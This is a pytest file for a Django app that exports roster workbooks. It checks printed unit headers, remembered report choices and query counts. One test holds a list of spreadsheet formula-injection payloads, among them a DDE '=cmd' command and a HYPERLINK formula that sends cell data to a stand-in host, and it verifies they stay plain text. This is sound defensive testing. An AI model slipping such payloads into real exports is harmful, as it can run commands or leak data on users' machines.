"""What a unit says of itself on its tables, and what somebody picked last (product.md §6)."""

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaign import clock
from campaign.models import AuditEvent, ReportChoice, ReportHead
from campaign.reporting.choosing import about, values_about
from campaign.reporting.registry import Option, Parameter, Report
from campaign.services.drafts import drop_drafts_of
from campaign.spans import spans_between
from tests import factories

NOON = "2026-11-10 12:00"
PAYLOADS = (
    '=HYPERLINK("http://x?"&A1,"点我")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r\n=1+1", "\x00=1+1", "＝1+1", "＋1－1", "＠SUM(1)",
)  # fmt: skip


@pytest.fixture
def house(db):
    tree = factories.make_tree()
    tree.offices = factories.make_offices(tree)
    tree.campaign = factories.make_campaign(tree)
    return tree


def url(page, key):
    return reverse(f"campaign:report-{page}", args=[key])


def cells(answer):
    return [cell for sheet in load_workbook(BytesIO(answer.content)) for row in sheet for cell in row]


def test_the_units_own_head_and_signatures_are_printed(house, as_person):
    client = as_person(house.offices.branch_secretary)
    said = {
        "title": "上航公司工程信息党支部",
        "prepared_by": "林填表",
        "reviewed_by": "周审核",
        "phone": "021-5555",
    }
    with clock.at(NOON):
        assert client.post(url("head", house.branch.pk), said).status_code == 302
        made = client.post(url("workbook", "roster"), {"unit": house.branch.pk})
        page = client.get(url("preview", "roster") + f"?unit={house.branch.pk}").content.decode()
    printed = [cell.value for cell in cells(made) if cell.value]
    assert printed[0] == "上航公司工程信息党支部 2026年11月 职工及党员花名册"
    assert "填报单位（盖章）：上航公司工程信息党支部" in printed
    assert printed[-3:] == ["填表人：林填表", "审核人：周审核", "联系电话：021-5555"]
    assert "审核人：周审核" in page
    event = AuditEvent.objects.get(action="report-head-changed")
    assert (event.actor, event.detail) == (
        house.offices.branch_secretary,
        {"title": "上航公司工程信息党支部"},
    )


def test_the_twelve_payloads_typed_into_the_head_stay_text(house, as_person, monkeypatch):
    monkeypatch.setattr("campaign.reporting.exporting.PER_MINUTE", 100)
    client = as_person(house.offices.officer)
    for payload in PAYLOADS:
        with clock.at(NOON):
            client.post(url("head", house.general.pk), {"title": payload, "prepared_by": payload[:30]})
            made = cells(client.post(url("workbook", "roster"), {"unit": house.general.pk}))
        kept = ReportHead.objects.get(organization=house.general)
        assert kept.title.strip("\t\r\n\x00 ") == payload.strip("\t\r\n\x00 ")
        assert [cell.coordinate for cell in made if cell.data_type == "f"] == []
        assert made[0].value == f"{kept.title} 2026年11月 职工及党员花名册"
        assert f"填表人：{kept.prepared_by}" in {cell.value for cell in made}


def test_what_was_picked_last_comes_back_and_is_nobody_elses(house, as_person):
    officer = house.offices.officer
    key, picked = "post-applications", {"campaign": house.campaign.pk, "unit": house.neighbour.pk}
    with clock.at(NOON):
        client = as_person(officer)
        client.get(url("preview", key) + f"?unit={house.branch.pk}")
        assert not ReportChoice.objects.exists()
        client.post(url("workbook", key), picked)
        again = client.get(url("preview", key)).context["picked"]
        centre = client.get(reverse("campaign:report-centre")).content.decode()
        other = as_person(house.offices.branch_secretary).get(url("preview", key)).context["picked"]
    assert (again["unit"], other["unit"]) == (str(house.neighbour.pk), str(house.branch.pk))
    assert (
        f"上次下载：{house.campaign.organization.label}　{house.campaign.name}　{house.neighbour.name}"
        in centre
    )
    drop_drafts_of(officer)
    assert not ReportChoice.objects.exists()


def test_a_choice_that_is_no_longer_offered_is_forgotten(house, as_person):
    officer = house.offices.officer
    ReportChoice.objects.create(
        person=officer, report="roster", picked={"unit": str(house.far.pk)}, saved_at="2026-11-01T00:00:00Z"
    )
    with clock.at(NOON):
        page = as_person(officer).get(url("preview", "roster"))
    assert page.context["picked"]["unit"] == str(house.general.pk)


def test_a_month_the_report_knows_nothing_of_is_said(house, as_person):
    with clock.at(NOON):
        page = as_person(house.offices.officer).get(url("preview", "month-summary") + "?at=2026-10")
        hidden = as_person(house.offices.officer).get(
            url("preview", "roster") + f"?at=2026-10&unit={house.far.pk}"
        )
    assert (page.status_code, page.context["document"], hidden.status_code) == (200, None, 404)


def test_the_centre_asks_as_often_for_many_contenders_as_for_one(
    house, as_person, django_assert_max_num_queries
):
    for number in range(30):
        factories.make_post(house.campaign, factories.make_member(f"员{number}", house.branch), "active")
    client = as_person(house.offices.officer)
    with clock.at(NOON):
        client.get(reverse("campaign:report-centre"))
        with django_assert_max_num_queries(30):
            client.get(reverse("campaign:report-centre"))


@pytest.mark.one_database
def test_spans_are_listed_latest_first_years_before_quarters():
    keys = [span.key for span in spans_between(date(2026, 11, 30), date(2027, 1, 1))]
    assert keys == ["2027", "2027-Q1", "2027-01", "2026", "2026-Q4", "2026-12", "2026-11"]


def report_with(*options, required=False, is_time=True):
    parameter = Parameter("time", "时间", lambda person: options, required=required, is_time=is_time)
    return Report("x", "x", "x", bool, (), None, None, parameters=(parameter,))


@pytest.mark.one_database
@pytest.mark.parametrize(
    ("wanted", "required", "found"),
    [("2026-10", True, {"time": "o"}), ("2026-09", True, None), ("2026-09", False, None)],
)
def test_one_month_finds_its_choice_or_the_report_has_none(wanted, required, found):
    option = Option("o", "十月", None, about(campaign=3, period="2026-10"))
    report = report_with(option, required=required)
    assert values_about(report, {"time": {"o": option}}, about(campaign=3, unit=5, period=wanted)) == found
    assert values_about(report, {"time": {"o": option}}, about(campaign=4, period=wanted)) is None


@pytest.mark.one_database
def test_a_time_that_follows_no_month_is_left_alone():
    free = Option("2026-10", "十月", None)
    assert values_about(report_with(free), {"time": {free.value: free}}, about(period="2026-10")) == {}
